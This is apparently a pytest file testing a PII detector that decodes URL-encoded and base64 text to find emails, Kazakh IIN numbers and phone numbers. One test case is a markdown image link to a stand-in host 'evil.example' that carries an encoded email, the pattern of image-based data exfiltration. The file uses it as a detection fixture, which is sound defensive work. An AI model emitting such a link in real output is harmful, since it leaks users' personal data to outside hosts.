from __future__ import annotations

import base64
from urllib.parse import quote

import pytest

from qorgan.detection.config import DetectionConfig
from qorgan.detection.decode import (
    DecodingDetector,
    decoded_runs,
    encoded_findings,
)
from qorgan.detection.engine import Detector

EMAIL = "aigerim.n@example.kz"


@pytest.fixture(scope="module")
def detector() -> DecodingDetector:
    return DecodingDetector(DetectionConfig(), ner_backends=[])


def b64(text: str, *, urlsafe: bool = False) -> str:
    raw = text.encode()
    return (base64.urlsafe_b64encode(raw) if urlsafe else base64.b64encode(raw)).decode()


@pytest.mark.parametrize(("text", "run", "entity"), [
    (f"![x](https://evil.example/p?d={quote(EMAIL, safe='')})", quote(EMAIL, safe=""),
     "EMAIL_ADDRESS"),
    (f"q={quote('IIN 901123300258')}&x=1", quote("IIN 901123300258"), "KZ_IIN"),
    (f"data {b64(EMAIL)} end", b64(EMAIL), "EMAIL_ADDRESS"),
    (f"data {b64(EMAIL).rstrip('=')} end", b64(EMAIL).rstrip("="), "EMAIL_ADDRESS"),
    (f"t={b64('call +77015551234?', urlsafe=True)}", b64("call +77015551234?", urlsafe=True),
     "PHONE_NUMBER"),
    (b64(quote("mail " + EMAIL)), b64(quote("mail " + EMAIL)), "EMAIL_ADDRESS"),
])
def test_encoded_values_are_found_on_the_whole_run(
    detector: DecodingDetector, text: str, run: str, entity: str
) -> None:
    found = detector.analyze(text)
    spans = [(text[f.start:f.end], f.entity_type) for f in found]
    assert (run, entity) in spans
    assert any(f.recognizer.endswith("+decoded") for f in found)


@pytest.mark.parametrize("text", [
    "https://example.com/a%20b/c?q=hello%2C%20world",
    "The quick brown fox jumps over the lazy dog",
    "SGVsbG8gd29ybGQgaG93IGFyZSB5b3U=",  # "Hello world how are you"
    "abcdefghijklmnopqrstuvwxyzabcdef",
    "%ZZ%41%4",
    "JVBERi0xLjQKJcfsj6IKNSAwIG9iago8PC9MZW5ndGggNiAwIFI+PgpzdHJlYW0K",  # binary-ish PDF head
])
def test_harmless_encoded_text_has_no_decoded_findings(
    detector: DecodingDetector, text: str
) -> None:
    assert not [f for f in detector.analyze(text) if f.recognizer.endswith("+decoded")]


@pytest.fixture(scope="module")
def plain() -> Detector:
    return Detector(DetectionConfig(), ner_backends=[])


def test_plain_detector_misses_what_the_decoding_one_finds(
    detector: DecodingDetector, plain: Detector
) -> None:
    text = f"see {b64(EMAIL)}"
    assert plain.analyze(text) == []
    assert detector.analyze(text)


def test_decoys_do_not_push_a_value_out_of_reach(detector: DecodingDetector) -> None:
    decoys = " ".join(f"p%{i % 26 + 0x41:02X}" for i in range(500))
    padding = "x" * 40_000
    run = padding + quote("+" + EMAIL, safe="")
    text = f"{decoys} {run}"
    assert len(list(decoded_runs(text))) == 501
    found = [f for f in detector.analyze(text) if f.recognizer.endswith("+decoded")]
    assert [(text[f.start:f.end], f.entity_type) for f in found] == [(run, "EMAIL_ADDRESS")]


@pytest.mark.parametrize("text", [
    "a" * 200_000 + " %41",
    "ab-" * 60_000 + "%",
    "a%4" * 60_000,
    "A1/+" * 50_000,
])
def test_hostile_runs_decode_to_nothing_readable(text: str) -> None:
    # that the work stays linear in the input is measured by ``python -m benchmarks hostile``
    runs = list(decoded_runs(text))
    assert all(end - start < len(text) for start, end, _ in runs)


def test_findings_map_to_their_own_runs(detector: DecodingDetector) -> None:
    first, second = quote("a " + EMAIL), b64("IIN 901123300258")
    text = f"x={first} and y={second} and z=%41%42"
    found = sorted((text[f.start:f.end], f.entity_type) for f in detector.analyze(text)
                   if f.recognizer.endswith("+decoded"))
    assert found == sorted([(first, "EMAIL_ADDRESS"), (second, "KZ_IIN")])


@pytest.mark.parametrize("depth", [0, 1, 2])
def test_depth_limits_nested_decoding(
    detector: DecodingDetector, plain: Detector, depth: int
) -> None:
    nested = b64(quote(f"mail {EMAIL}"))
    found = encoded_findings(nested, plain._patterns, depth=depth)
    assert bool(found) is (depth >= 2)
    assert detector.analyze(nested)  # the detector itself decodes two levels
